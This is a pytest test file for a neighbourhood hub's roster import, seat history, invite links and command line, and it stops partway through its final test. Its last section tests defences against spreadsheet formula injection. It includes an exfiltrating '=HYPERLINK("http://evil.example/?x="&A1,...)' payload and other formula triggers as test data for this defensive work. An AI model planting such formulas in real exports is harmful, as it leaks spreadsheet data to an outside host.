"""The roster import (CSV and XLSX), its idempotence and seat history, invites, and the CLI."""

from __future__ import annotations

import asyncio
import codecs
import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

import hub.roster.importer
import hub.roster.invites
from hub.access import audit
from hub.access.areas import area_by_path
from hub.cli import main
from hub.core.exports import safe_cell, unquote_cell, write_xlsx
from hub.core.phone import InvalidPhone, normalize_phone
from hub.roster.importer import ImportReport, import_roster, import_rows
from hub.roster.invites import INVITE_COLUMNS, invite_rows, write_invites
from hub.roster.members import CODE_LENGTH
from hub.roster.roster_file import RosterFileError, numbered_area_name, read_roster_file
from models import Area, AreaKind, AuditLog, ChannelAddress, Member, Seat, SeatRole
from tests.conftest import make_config
from tests.factories import make_member

FIXTURES = Path(__file__).parent / "fixtures" / "roster"
HEADER = "kecamatan,kelurahan,rw,rt,name,phone,telegram_username,preferred_channel,role"


def write_csv(tmp_path: Path, *lines: str, name: str = "roster.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *lines]) + "\n", encoding="utf-8")
    return path


def roster_row(**values: str) -> dict[str, str]:
    """A row as import_rows takes it, with only the required columns unless given more."""
    row = {"kecamatan": "K", "kelurahan": "L", "rw": "", "rt": "1", "name": "Ahmad"}
    return row | {"phone": "0811-9000-1234"} | values


async def table_counts() -> dict[str, int]:
    return {
        "areas": await Area.all().count(),
        "members": await Member.all().count(),
        "seats": await Seat.all().count(),
        "addresses": await ChannelAddress.all().count(),
    }


async def current_holders(path: str, role: SeatRole = SeatRole.KETUA_RT) -> list[str]:
    area = await area_by_path(path)
    seats = await Seat.filter(area=area, role=role, ended_at__isnull=True).select_related("member")
    return [seat.member.name for seat in seats]


# Pure helpers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("prefix", "raw", "expected"),
    [
        ("RT", "12", "RT 012"),
        ("RT", "012", "RT 012"),
        ("RT", "RT 12", "RT 012"),
        ("RT", "rt.012", "RT 012"),
        ("RT", " Rt  5 ", "RT 005"),
        ("RT", "RT012", "RT 012"),
        ("RW", "3", "RW 003"),
        ("RW", "rw. 03", "RW 003"),
        ("RW", "RW 003", "RW 003"),
    ],
)
def test_numbered_area_name_normalises(prefix: str, raw: str, expected: str) -> None:
    assert numbered_area_name(prefix, raw) == expected


@pytest.mark.parametrize(
    ("prefix", "raw"),
    [("RT", ""), ("RT", "abc"), ("RT", "RW 12"), ("RT", "0"), ("RT", "12A"), ("RW", "RT 3")],
)
def test_numbered_area_name_refuses(prefix: str, raw: str) -> None:
    with pytest.raises(ValueError, match=prefix):
        numbered_area_name(prefix, raw)


@pytest.mark.parametrize(
    "raw",
    ["0812-3456-7890", "+62 812 3456 7890", "6281234567890", "81234567890", "+62 (0)812.3456.7890"],
)
def test_phone_forms_normalise_to_e164(raw: str) -> None:
    assert normalize_phone(raw) == "+6281234567890"


@pytest.mark.parametrize(
    "raw", ["", "abc", "12345", "0812", "0812-3456-7890-1234", "08123456789O", "0812³4567890", "+"]
)
def test_phone_garbage_is_refused(raw: str) -> None:
    with pytest.raises(InvalidPhone):
        normalize_phone(raw)


def test_summary_is_one_line() -> None:
    report = ImportReport(
        created=40, updated=2, unchanged=10, rejected=[(3, "x"), (4, "y"), (9, "z")]
    )
    assert report.summary() == "created 40, updated 2, unchanged 10, rejected 3"


# Import ----------------------------------------------------------------------------------------


async def test_good_csv_creates_areas_members_seats_and_addresses(db: str) -> None:
    report = await import_roster(FIXTURES / "good.csv")

    assert report.summary() == "created 7, updated 0, unchanged 0, rejected 0"
    areas = {a.path: a for a in await Area.all().prefetch_related("parent")}
    assert sorted(areas) == [
        "Samarinda Ulu",
        "Samarinda Ulu/Air Hitam",
        "Samarinda Ulu/Air Hitam/RT 005",
        "Sungai Kunjang",
        "Sungai Kunjang/Loa Bakung",
        "Sungai Kunjang/Loa Bakung/RT 001",
        "Sungai Kunjang/Loa Bakung/RT 002",
        "Sungai Kunjang/Loa Bakung/RW 003",
        "Sungai Kunjang/Loa Bakung/RW 003/RT 012",
    ]
    rt12 = areas["Sungai Kunjang/Loa Bakung/RW 003/RT 012"]
    assert (rt12.kind, rt12.name, rt12.path_key) == (
        AreaKind.RT,
        "RT 012",
        "sungai kunjang/loa bakung/rw 003/rt 012",
    )
    assert rt12.parent is not None and rt12.parent.path == "Sungai Kunjang/Loa Bakung/RW 003"
    assert areas["Sungai Kunjang/Loa Bakung/RW 003"].kind == AreaKind.RW
    assert areas["Sungai Kunjang/Loa Bakung"].kind == AreaKind.KELURAHAN

    siti = await Member.get(phone="+6281234567002")
    assert (siti.name, siti.preferred_channel) == ("Siti Rahman", "sandbox")
    assert len(siti.invite_code) == CODE_LENGTH
    assert len({m.invite_code for m in await Member.all()}) == 7

    seats = await Seat.filter(ended_at__isnull=True).select_related("member", "area")
    placed = {(s.member.name, s.area.path, s.role) for s in seats}
    assert placed == {
        ("Ahmad Saputra", "Sungai Kunjang/Loa Bakung/RT 001", SeatRole.KETUA_RT),
        ("Siti Rahman", "Sungai Kunjang/Loa Bakung/RT 002", SeatRole.KETUA_RT),
        ("Budi Hidayat", "Sungai Kunjang/Loa Bakung/RW 003/RT 012", SeatRole.KETUA_RT),
        ("Rahmat Wijaya", "Sungai Kunjang/Loa Bakung/RW 003", SeatRole.KETUA_RW),
        ("Nur Lestari", "Sungai Kunjang/Loa Bakung", SeatRole.STAFF),
        ("Yusuf Pratama", "Sungai Kunjang/Loa Bakung", SeatRole.STAFF),
        ("Dewi Nasution", "Samarinda Ulu/Air Hitam/RT 005", SeatRole.KETUA_RT),
    }
    assert await Seat.all().count() == 7

    addresses = {
        (a.member.name, a.channel, a.address)
        for a in await ChannelAddress.all().select_related("member")
    }
    nur = await Member.get(phone="+6281234567005")
    assert ("Siti Rahman", "sandbox", f"sandbox-{siti.id}") in addresses
    assert ("Nur Lestari", "sandbox", f"sandbox-{nur.id}") in addresses
    assert ("Budi Hidayat", "whatsapp", "+6281234567003") in addresses
    assert sum(1 for _, channel, _ in addresses if channel == "whatsapp") == 7
    assert len(addresses) == 9

    entry = await AuditLog.get(action="roster.import")
    assert entry.actor == "cli" and entry.target == "good.csv"
    assert entry.detail == {"created": 7, "updated": 0, "unchanged": 0, "rejected": 0}


async def test_broken_rows_are_reported_by_line_while_good_rows_import(db: str) -> None:
    report = await import_roster(FIXTURES / "broken.csv")

    assert (report.created, report.updated, report.unchanged) == (2, 0, 0)
    reasons = dict(report.rejected)
    assert [line for line, _ in report.rejected] == [3, 4, 5, 7, 8, 9, 10, 11, 12, 13, 14]
    assert reasons[3] == "name is empty"
    assert reasons[4].startswith("invalid phone:")
    assert reasons[5] == "rt is empty (required for ketua_rt)"
    assert reasons[7] == "duplicate phone, first seen on line 2"
    assert "unknown preferred_channel 'fax'" in reasons[8]
    assert "unknown role 'camat'" in reasons[9]
    assert "invalid telegram_username 'a b'" in reasons[10]
    assert reasons[11] == "Sungai Kunjang/Loa Bakung/RT 001 already has its ketua_rt on line 2"
    assert reasons[12] == "invalid RT 'RW 2'"
    assert reasons[13] == "rw is empty (required for ketua_rw)"
    # Every problem of a row is reported at once, so one round of fixes is enough.
    assert reasons[14].split("; ")[0] == "name is empty"
    assert "invalid phone:" in reasons[14] and "kelurahan is empty" in reasons[14]

    assert sorted(await Member.all().values_list("name", flat=True)) == [
        "Ahmad Saputra",
        "Lestari Pratama",
    ]
    assert await current_holders("Sungai Kunjang/Loa Bakung/RT 001") == ["Ahmad Saputra"]
    # Nothing of a rejected row reaches the database, not even its area.
    assert await Area.filter(name="RT 006").count() == 0


async def test_reimport_changes_nothing(db: str) -> None:
    first = await import_roster(FIXTURES / "good.csv")
    before = await table_counts()
    seats_before = await Seat.all().order_by("id").values("id", "started_at", "ended_at")

    second = await import_roster(FIXTURES / "good.csv")

    assert first.created == 7
    assert second.summary() == "created 0, updated 0, unchanged 7, rejected 0"
    assert await table_counts() == before
    assert await Seat.all().order_by("id").values("id", "started_at", "ended_at") == seats_before


async def test_every_phone_form_finds_the_same_member(db: str, tmp_path: Path) -> None:
    forms = ["0812-3456-7890", "+62 812 3456 7890", "6281234567890", "81234567890"]
    outcomes = []
    for form in forms:
        path = write_csv(tmp_path, f"Sungai Kunjang,Loa Bakung,,1,Ahmad Saputra,{form},,,")
        outcomes.append((await import_roster(path)).summary())

    assert (
        outcomes
        == ["created 1, updated 0, unchanged 0, rejected 0"]
        + ["created 0, updated 0, unchanged 1, rejected 0"] * 3
    )
    assert await Member.all().values_list("phone", flat=True) == ["+6281234567890"]


async def test_seat_changing_hands_keeps_history(db: str, tmp_path: Path) -> None:
    rt1 = "Sungai Kunjang/Loa Bakung/RT 001"
    await import_roster(write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,1,Ahmad,0812-3456-7001,,,"))
    old_seat = await Seat.get(member__name="Ahmad")

    report = await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,1,Budi,0812-3456-7002,,,")
    )

    assert report.summary() == "created 1, updated 0, unchanged 0, rejected 0"
    assert await current_holders(rt1) == ["Budi"]
    await old_seat.refresh_from_db()
    new_seat = await Seat.get(member__name="Budi")
    assert old_seat.ended_at is not None and old_seat.ended_at == new_seat.started_at
    # Ahmad keeps his member row, addresses and the ended seat: the history of RT 001.
    assert await Member.filter(name="Ahmad").exists()
    assert await Seat.filter(area__path=rt1).count() == 2


async def test_member_moving_ends_the_old_seat(db: str, tmp_path: Path) -> None:
    await import_roster(write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,1,Ahmad,0812-3456-7001,,,"))

    report = await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,2,Ahmad,0812-3456-7001,,,")
    )

    assert report.summary() == "created 0, updated 1, unchanged 0, rejected 0"
    assert await current_holders("Sungai Kunjang/Loa Bakung/RT 001") == []
    assert await current_holders("Sungai Kunjang/Loa Bakung/RT 002") == ["Ahmad"]
    assert await Seat.filter(ended_at__isnull=False).count() == 1


async def test_staff_seats_are_shared(db: str, tmp_path: Path) -> None:
    await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,,Nur,0812-3456-7001,,,staff")
    )
    await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,,Yusuf,0812-3456-7002,,,staff")
    )

    assert sorted(await current_holders("Sungai Kunjang/Loa Bakung", SeatRole.STAFF)) == [
        "Nur",
        "Yusuf",
    ]


async def test_name_and_channel_changes_update_the_member(db: str, tmp_path: Path) -> None:
    await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,1,Ahmad,0812-3456-7001,,telegram,")
    )
    renamed = await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,1,Ahmad Saputra,0812-3456-7001,,,")
    )
    member = await Member.get(phone="+6281234567001")
    # An empty preferred_channel keeps the member's choice rather than erasing it.
    assert renamed.updated == 1 and (member.name, member.preferred_channel) == (
        "Ahmad Saputra",
        "telegram",
    )

    switched = await import_roster(
        write_csv(tmp_path, "Sungai Kunjang,Loa Bakung,,1,Ahmad Saputra,0812-3456-7001,,sandbox,")
    )
    await member.refresh_from_db()
    assert switched.updated == 1 and member.preferred_channel == "sandbox"
    assert await ChannelAddress.filter(member=member, channel="sandbox").count() == 1


async def test_whatsapp_number_of_another_member_is_rejected(db: str) -> None:
    other = await make_member(channels=(), phone="+6281299990000")
    await ChannelAddress.create(member=other, channel="whatsapp", address="+6281234567001")

    report = await import_rows([(2, roster_row(phone="0812-3456-7001"))])

    assert report.rejected == [
        (2, f"whatsapp address +6281234567001 belongs to another member (id {other.id})")
    ]
    assert not await Member.filter(phone="+6281234567001").exists()


async def test_invite_code_clash_is_retried(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    taken = (await make_member()).invite_code
    codes = iter([taken, "FRESH234"])
    monkeypatch.setattr(hub.roster.invites, "new_invite_code", lambda: next(codes))

    await import_rows([(2, roster_row(phone="0812-3456-7001"))])

    assert (await Member.get(phone="+6281234567001")).invite_code == "FRESH234"


@pytest.fixture
def no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
    """No pause between batches: in one process, other writers get their turn without it."""
    monkeypatch.setattr(hub.roster.importer, "SQLITE_PAUSE_SECONDS", 0)


async def test_crash_keeps_whole_batches_and_a_rerun_finishes(
    db: str, monkeypatch: pytest.MonkeyPatch, no_pause: None
) -> None:
    real_take_seats = hub.roster.importer._ImportRun.take_seats
    calls = 0

    async def take_seats_then_crash(self, seated, *, new_members):  # type: ignore[no-untyped-def]
        nonlocal calls
        calls += 1
        if calls == 2:  # the second batch's members and areas are written by now
            raise RuntimeError("disk full")
        return await real_take_seats(self, seated, new_members=new_members)

    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", take_seats_then_crash)
    rows = read_roster_file(FIXTURES / "good.csv")

    with pytest.raises(RuntimeError, match="disk full"):
        await import_rows(rows, batch_rows=3)

    # The first batch is in, every row of it whole; nothing of the second, not even its members.
    assert await table_counts() == {"areas": 6, "members": 3, "seats": 3, "addresses": 4}
    assert sorted(await Member.all().values_list("name", flat=True)) == [
        "Ahmad Saputra",
        "Budi Hidayat",
        "Siti Rahman",
    ]
    assert not await AuditLog.filter(action="roster.import").exists()

    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", real_take_seats)
    report = await import_rows(rows, batch_rows=3)

    assert report.summary() == "created 4, updated 0, unchanged 3, rejected 0"
    # The same database as one uninterrupted import of the file.
    assert await table_counts() == {"areas": 9, "members": 7, "seats": 7, "addresses": 9}
    assert not await Seat.filter(ended_at__isnull=False).exists()
    assert await current_holders("Sungai Kunjang/Loa Bakung/RW 003/RT 012") == ["Budi Hidayat"]
    again = await import_rows(rows)
    assert again.summary() == "created 0, updated 0, unchanged 7, rejected 0"


async def test_another_writer_gets_in_between_batches(db: str, no_pause: None) -> None:
    async def small_insert() -> None:  # what the running hub does meanwhile
        await audit.record(None, "test.write", "between batches")

    writer = asyncio.create_task(small_insert())
    writer_done: list[bool] = []

    async def on_batch(done: int, total: int) -> None:
        writer_done.append(writer.done())

    report = await import_rows(
        read_roster_file(FIXTURES / "good.csv"), batch_rows=1, on_batch=on_batch
    )
    await writer

    assert report.created == 7 and len(writer_done) == 7
    # The writer was not held off until the whole file was in: it got the database early on.
    assert True in writer_done[:3]
    assert await AuditLog.filter(action="test.write").count() == 1


async def test_rejected_rows_are_reported_across_batches(db: str, no_pause: None) -> None:
    other = await make_member(channels=(), phone="+6281299990000")
    await ChannelAddress.create(member=other, channel="whatsapp", address="+6281234567003")
    progress: list[tuple[int, int]] = []

    async def on_batch(done: int, total: int) -> None:
        progress.append((done, total))

    report = await import_rows(
        read_roster_file(FIXTURES / "good.csv"), batch_rows=2, on_batch=on_batch
    )

    # Budi's number is taken: his row is rejected in its batch, the rest of that batch goes in.
    assert report.summary() == "created 6, updated 0, unchanged 0, rejected 1"
    assert report.rejected == [
        (4, f"whatsapp address +6281234567003 belongs to another member (id {other.id})")
    ]
    assert progress == [(2, 7), (4, 7), (6, 7), (7, 7)]
    rw3 = "Sungai Kunjang/Loa Bakung/RW 003"
    assert await current_holders(rw3, SeatRole.KETUA_RW) == ["Rahmat Wijaya"]


async def test_seats_swapped_within_one_batch(db: str, tmp_path: Path) -> None:
    rt1, rt2 = "Sungai Kunjang/Loa Bakung/RT 001", "Sungai Kunjang/Loa Bakung/RT 002"
    await import_roster(
        write_csv(
            tmp_path,
            "Sungai Kunjang,Loa Bakung,,1,Ahmad,0812-3456-7001,,,",
            "Sungai Kunjang,Loa Bakung,,2,Budi,0812-3456-7002,,,",
        )
    )

    report = await import_roster(
        write_csv(
            tmp_path,
            "Sungai Kunjang,Loa Bakung,,2,Ahmad,0812-3456-7001,,,",
            "Sungai Kunjang,Loa Bakung,,1,Budi,0812-3456-7002,,,",
        )
    )

    assert report.summary() == "created 0, updated 2, unchanged 0, rejected 0"
    assert await current_holders(rt1) == ["Budi"]
    assert await current_holders(rt2) == ["Ahmad"]
    assert await Seat.filter(ended_at__isnull=False).count() == 2
    assert await Seat.all().count() == 4


async def test_rows_without_optional_columns_import(db: str) -> None:
    # The demo seeder passes dicts without telegram_username.
    report = await import_rows(
        [(2, roster_row(rt="007", preferred_channel="sandbox", role="ketua_rt"))]
    )
    assert report.summary() == "created 1, updated 0, unchanged 0, rejected 0"
    assert await current_holders("K/L/RT 007") == ["Ahmad"]


# File formats ----------------------------------------------------------------------------------


def build_xlsx(path: Path) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(
        ["No", "Kecamatan", "Kelurahan", "RW", "RT", "Nama Lengkap", "Name", "Phone", "Role"]
    )
    sheet.append(
        [1, "Sungai Kunjang", "Loa Bakung", None, 12, "x", "Ahmad Saputra", 81234567001, None]
    )
    sheet.append([2, "Sungai Kunjang", "Loa Bakung", 3, 4.0, "x", "Siti Rahman", 6281234567002, ""])
    # Row 4 left blank, as people leave gaps between blocks.
    sheet.cell(row=5, column=1, value=3)
    for column, value in enumerate(
        ["Sungai Kunjang", "Loa Bakung", None, 13, "x", "Budi", "12345", None], start=2
    ):
        sheet.cell(row=5, column=column, value=value)
    workbook.create_sheet("Catatan").append(["kecamatan", "ignored"])
    workbook.save(path)
    # Some writers store numbers in exponent form, which reads back as a float.
    _rewrite_sheet(path, "<v>6281234567002</v>", "<v>6.281234567002E12</v>")
    return path


def _rewrite_sheet(path: Path, old: str, new: str) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    assert old in sheet
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(old, new).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


async def test_xlsx_import_with_numeric_cells(db: str, tmp_path: Path) -> None:
    path = build_xlsx(tmp_path / "roster.xlsx")

    rows = read_roster_file(path)
    report = await import_roster(path)

    assert [line for line, _ in rows] == [2, 3, 5]
    assert rows[0][1]["phone"] == "81234567001" and rows[0][1]["rt"] == "12"
    assert rows[1][1]["rt"] == "4" and rows[1][1]["rw"] == "3"
    assert rows[1][1]["phone"] == "6281234567002"
    assert report.created == 2
    assert [line for line, _ in report.rejected] == [5]
    assert await current_holders("Sungai Kunjang/Loa Bakung/RT 012") == ["Ahmad Saputra"]
    assert await current_holders("Sungai Kunjang/Loa Bakung/RW 003/RT 004") == ["Siti Rahman"]
    assert await Member.filter(phone="+6281234567002").exists()


async def test_semicolon_csv(db: str) -> None:
    report = await import_roster(FIXTURES / "semicolon.csv")

    assert report.summary() == "created 2, updated 0, unchanged 0, rejected 0"
    assert await current_holders("Sungai Kunjang/Loa Bakung/RT 001") == ["Ahmad Saputra, S.Pd"]
    assert await current_holders("Sungai Kunjang/Loa Bakung/RT 002") == ["Siti; Rahman"]


async def test_csv_with_bom(db: str, tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(
        codecs.BOM_UTF8
        + f"{HEADER}\nSungai Kunjang,Loa Bakung,,1,Ahmad,0812-3456-7001,,,\n".encode()
    )

    assert read_roster_file(path)[0][1]["kecamatan"] == "Sungai Kunjang"
    assert (await import_roster(path)).created == 1


def test_utf16_tab_separated_text_from_excel(tmp_path: Path) -> None:
    path = tmp_path / "roster.txt"
    text = "kecamatan\tkelurahan\trw\trt\tname\tphone\r\nK\tL\t\t1\tÁhmad\t0812-3456-7001\r\n"
    path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))

    assert read_roster_file(path) == [
        (
            2,
            {
                "kecamatan": "K",
                "kelurahan": "L",
                "rw": "",
                "rt": "1",
                "name": "Áhmad",
                "phone": "0812-3456-7001",
                "telegram_username": "",
                "preferred_channel": "",
                "role": "",
            },
        )
    ]


def _zip_without_workbook(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.csv", b"", "empty"),
        ("blank.csv", b"\n \n\r\n", "empty"),
        ("no-phone.csv", b"kecamatan,kelurahan,rw,rt,name\nK,L,,1,A\n", "missing column(s): phone"),
        ("notes.csv", b"just some notes\nabout nothing\n", "missing column(s): kecamatan"),
        ("twice.csv", f"{HEADER},Phone\n".encode(), "duplicate column(s): phone"),
        ("junk.bin", bytes(range(256)) * 8, "binary"),
        ("latin1.csv", f"{HEADER}\nK,L,,1,Jos\xe9,0812\n".encode("latin-1"), "UTF-8"),
        ("fake.xlsx", f"{HEADER}\n".encode(), "not a valid XLSX"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 600, ".xls"),
        ("zip.xlsx", None, "not a readable XLSX"),
        ("empty.xlsx", "workbook", "no header row"),
    ],
)
async def test_files_that_are_not_rosters_import_nothing(
    db: str, tmp_path: Path, name: str, content: bytes | str | None, message: str
) -> None:
    path = tmp_path / name
    if content is None:
        _zip_without_workbook(path)
    elif content == "workbook":
        openpyxl.Workbook().save(path)
    else:
        assert isinstance(content, bytes)
        path.write_bytes(content)

    with pytest.raises(RosterFileError, match=re.escape(message)):
        await import_roster(path)

    assert await table_counts() == {"areas": 0, "members": 0, "seats": 0, "addresses": 0}
    assert not await AuditLog.exists()


def test_missing_file_is_a_roster_file_error(tmp_path: Path) -> None:
    with pytest.raises(RosterFileError, match="cannot read"):
        read_roster_file(tmp_path / "nowhere.csv")


def test_header_only_file_has_no_rows(tmp_path: Path) -> None:
    assert read_roster_file(write_csv(tmp_path)) == []


# Invites ---------------------------------------------------------------------------------------


INVITE_CONFIG = make_config(
    telegram={"bot_username": "balaiwarga_bot"}, whatsapp={"business_phone": "+62 811-000-111"}
)


async def test_invite_rows_per_current_member(db: str) -> None:
    await import_roster(FIXTURES / "good.csv")
    # Dewi's seat has ended: she is no longer invited.
    dewi_seat = await Seat.get(member__name="Dewi Nasution")
    dewi_seat.ended_at = dewi_seat.started_at
    await dewi_seat.save()

    everyone = await invite_rows(INVITE_CONFIG, None)
    rw3 = await invite_rows(INVITE_CONFIG, await area_by_path("sungai kunjang/loa bakung/rw 003"))

    assert len(everyone) == 6 and "Dewi Nasution" not in [r["name"] for r in everyone]
    assert [(r["name"], r["area"]) for r in rw3] == [
        ("Rahmat Wijaya", "Sungai Kunjang/Loa Bakung/RW 003"),
        ("Budi Hidayat", "Sungai Kunjang/Loa Bakung/RW 003/RT 012"),
    ]
    budi = await Member.get(name="Budi Hidayat")
    assert rw3[1] == {
        "member_id": budi.id,
        "name": "Budi Hidayat",
        "area": "Sungai Kunjang/Loa Bakung/RW 003/RT 012",
        "code": budi.invite_code,
        "telegram_link": f"https://t.me/balaiwarga_bot?start={budi.invite_code}",
        "whatsapp_link": f"https://wa.me/62811000111?text=DAFTAR%20{budi.invite_code}",
    }


async def test_invites_as_csv_and_json(db: str) -> None:
    await import_roster(FIXTURES / "semicolon.csv")
    rows = await invite_rows(make_config(telegram={"bot_username": "balaiwarga_bot"}), None)

    as_csv, as_json = io.StringIO(), io.StringIO()
    write_invites(rows, "csv", as_csv)
    write_invites(rows, "json", as_json)

    table = list(csv.reader(io.StringIO(as_csv.getvalue())))
    assert table[0] == list(INVITE_COLUMNS)
    assert [row[1] for row in table[1:]] == ["Ahmad Saputra, S.Pd", "Siti; Rahman"]
    assert table[1][5] == ""  # no WhatsApp business number configured
    assert table[1][4].startswith("https://t.me/balaiwarga_bot?start=")
    objects = json.loads(as_json.getvalue())
    assert [list(obj) for obj in objects] == [list(INVITE_COLUMNS)] * 2
    assert objects[0]["whatsapp_link"] is None
    assert [obj["code"] for obj in objects] == [row[3] for row in table[1:]]
    with pytest.raises(ValueError, match="xml"):
        write_invites(rows, "xml", io.StringIO())


# Command line ----------------------------------------------------------------------------------


@pytest.fixture
def cli_config(tmp_path: Path) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(
        f'[database]\nurl = "sqlite://{tmp_path}/hub.sqlite3"\n'
        '[telegram]\nbot_username = "balaiwarga_bot"\n',
        encoding="utf-8",
    )
    return path


def test_cli_imports_and_prints_counts(
    cli_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = main(["--config", str(cli_config), "roster", "import", str(FIXTURES / "broken.csv")])

    out = capsys.readouterr().out.splitlines()
    assert status == 0
    assert out[0] == "created 2, updated 0, unchanged 0, rejected 11"
    assert out[1] == "  line 3: name is empty"
    assert len(out) == 12

    again = main(["--config", str(cli_config), "roster", "import", str(FIXTURES / "broken.csv")])
    assert again == 0
    assert capsys.readouterr().out.splitlines()[0] == (
        "created 0, updated 0, unchanged 2, rejected 11"
    )

    assert main(["--config", str(cli_config), "roster", "invites", "--format", "json"]) == 0
    invites = json.loads(capsys.readouterr().out)
    assert [i["name"] for i in invites] == ["Ahmad Saputra", "Lestari Pratama"]
    assert invites[0]["telegram_link"].endswith(f"?start={invites[0]['code']}")


def test_cli_refuses_a_bad_file_with_exit_2(
    cli_config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("nama,telepon\nAhmad,0812\n", encoding="utf-8")

    status = main(["--config", str(cli_config), "roster", "import", str(bad)])

    captured = capsys.readouterr()
    assert status == 2
    assert captured.err.splitlines() == [
        "hub: missing column(s): kecamatan, kelurahan, rw, rt, name, phone"
    ]
    assert captured.out == ""
    assert main(["--config", str(cli_config), "roster", "invites"]) == 0
    assert capsys.readouterr().out.splitlines() == [",".join(INVITE_COLUMNS)]


# Formula injection in exports (hub/core/exports.py) ---------------------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def test_cli_invites_csv_neutralises_formulas_and_reads_quoted_phones_back(
    cli_config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Names a spreadsheet would run; the phones as an exported CSV writes them ('+62...).
    lines = [
        f'K,L,,{rt},"{name.replace(chr(34), chr(34) * 2)}",\'+62812345670{rt}'
        for rt, name in enumerate(FORMULA_NAMES, start=1)
    ]
    roster = write_csv(tmp_path, *lines)
    assert main(["--config", str(cli_config), "roster", "import", str(roster)]) == 0
    assert capsys.readouterr().out.startswith("created 5, updated 0, unchanged 0, rejected 0")

    assert main(["--config", str(cli_config), "roster", "invites", "--format", "csv"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    # The import trims the tab; every name is written with the quote that keeps it text.
    assert [row[1] for row in table[1:]] == ["'" + name.strip() for name in FORMULA_NAMES]
    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_invites_csv_keeps_every_cell_in_its_row() -> None:
    # A bare CR inside a name would end the row unquoted and start a row with "=...".
    rows = [
        dict.fromkeys(INVITE_COLUMNS, "") | {"member_id": 1, "name": name}
        for name in [*FORMULA_NAMES, "Ahmad\r=1+1", "\r=1+1"]
    ]
    out = io.StringIO()
    write_invites(rows, "csv", out)
    table = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[1] for row in table[1:]] == [
        *("'" + name for name in FORMULA_NAMES),
        "Ahmad\n=1+1",
        "'\n=1+1",
    ]


async def test_quoted_cells_import_as_they_were_before_the_export(db: str, tmp_path: Path) -> None:
    report = await import_roster(write_csv(tmp_path, "K,L,,1,'=Ahmad,'+6281190001234"))
    assert report.created == 1, report.rejected
    member = await Member.get()
    assert (member.phone, member.name) == ("+6281190001234", "=Ahmad")


def test_safe_cells() -> None:
    assert [safe_cell(v) for v in [*FORMULA_NAMES, "\rx", "+6281234567001"]] == [
        *("'" + name for name in FORMULA_NAMES),
        "'\rx",
        "'+6281234567001",
    ]
    assert [safe_cell(v) for v in ["Ahmad", "a=b", "", None, -5, 1.5]] == [
        "Ahmad",
        "a=b",
        "",
        "",
        -5,
        1.5,
    ]
    assert [unquote_cell(safe_cell(v)) for v in FORMULA_NAMES] == FORMULA_NAMES
    assert unquote_cell("'Ahmad") == "'Ahmad"  # a quote the hub did not add stays


def test_xlsx_export_writes_text_cells_never_formulas() -> None:
    out = io.BytesIO()
    write_xlsx(
        out, ["name", "phone", "n"], [[name, "+6281234567001", -5] for name in FORMULA_NAMES]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == FORMULA_NAMES  # kept exactly, no visible quote
    assert {(row[0].data_type, row[0].quotePrefix) for row in rows} == {("s", True)}
    assert {(row[1].value, row[1].data_type) for row in rows} == {("+6281234567001", "s")}
    assert {row[2].value for row in rows} == {-5}


def test_cli_regenerates_the_invite_codes_of_an_area_only(
    cli_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config", str(cli_config), "roster", "import", str(FIXTURES / "good.csv")]) == 0
    capsys.readouterr()
    rw3 = ["--area", "sungai kunjang/loa bakung/rw 003", "--format", "json"]
    assert main(["--config", str(cli_config), "roster", "invites", "--format", "json"]) == 0
    before = {i["member_id"]: i["code"] for i in json.loads(capsys.readouterr().out)}

    assert main(["--config", str(cli_config), "roster", "invites", *rw3, "--regenerate"]) == 0
    renewed = {i["member_id"]: i["code"] for i in json.loads(capsys.readouterr().out)}
    assert len(renewed) == 2
    assert all(renewed[m] != before[m] for m in renewed)
    assert main(["--config", str(cli_config), "roster", "invites", "--format", "json"]) == 0
    after = {i["member_id"]: i["code"] for i in json.loads(capsys.readouterr().out)}
    assert after == before | renewed  # the others keep theirs


def test_cli_import_stopped_part_way_says_how_to_finish(
    cli_config: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
